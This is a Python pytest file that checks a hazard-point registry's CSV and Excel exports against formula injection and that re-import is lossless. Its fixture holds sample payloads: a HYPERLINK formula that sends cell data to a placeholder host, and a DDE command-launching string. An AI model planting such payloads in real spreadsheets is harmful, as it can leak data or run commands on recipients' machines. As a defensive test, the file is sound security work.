"""Ledger exports never turn a text into a spreadsheet formula; re-import is
lossless."""

from __future__ import annotations

import csv

import openpyxl
import pytest

from riskmap.registry import Project, export_points, import_file
from riskmap.spreadsheet import csv_text, csv_untext

LINK = '=HYPERLINK("http://example.invalid/?"&B2,"点击")'
TEXTS = {
    "name": LINK,
    "address": "+86 巴中",
    "responsible": "@SUM(1+1)*cmd|' /C calc'!A0",
    "measures": "-2+3 加固挡墙",
    "warning_signal": "'=已转义",
    "evacuation_route": "'",
    "shelter": "=1+1\n第二行",
    "monitor": "\t=1",
    "photos": "\r=1",
}


@pytest.fixture
def hostile(project) -> Project:
    """A project with one point whose texts all look like formulas."""
    project.add_point({"type": "滑坡", **TEXTS}, 106.72, 31.87, user="wang")
    return project


def test_xlsx_cells_are_text_never_formulas(tmp_path, hostile):
    """Every cell that starts with = is a string cell; Excel shows it as text."""
    out = export_points(hostile, tmp_path / "台账.xlsx", "xlsx")
    sheet = openpyxl.load_workbook(out).active
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, sheet[2], strict=True))
    assert all(c.data_type != "f" for c in sheet[2])
    assert row["名称"].value == LINK
    assert row["名称"].data_type == "s"
    assert row["安置点"].value == TEXTS["shelter"]


def test_csv_texts_are_quoted_as_owasp_advises(tmp_path, hostile):
    """Cells that begin with = + - @ tab CR (or ') get a leading quote."""
    out = export_points(hostile, tmp_path / "台账.csv", "csv")
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows[0]["名称"] == "'" + LINK
    for field in ("地址", "责任人", "管控措施", "预警信号", "安置点"):
        assert rows[0][field].startswith("'"), field
    assert all(
        not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in rows[0].values()
    )


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_round_trip_is_lossless(tmp_path, hostile, communities, fmt):
    """Export then import into a fresh project gives back the very same texts."""
    out = export_points(hostile, tmp_path / f"台账.{fmt}", fmt)
    fresh = Project.create(tmp_path / "copy.gpkg", communities)
    report = import_file(fresh, out, "wgs84", user="copy")
    assert (report.imported, report.rejected) == (1, [])
    again = fresh.points().iloc[0]
    original = hostile.points().iloc[0]
    for field in TEXTS:
        assert again[field] == original[field], field
    fresh.close()


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@a", "\t1", "\r1", "'", "''=", "'a", "a'", "", "a=1"]
)
def test_csv_prefix_round_trips(text):
    """csv_untext undoes csv_text for every text."""
    assert csv_untext(csv_text(text)) == text
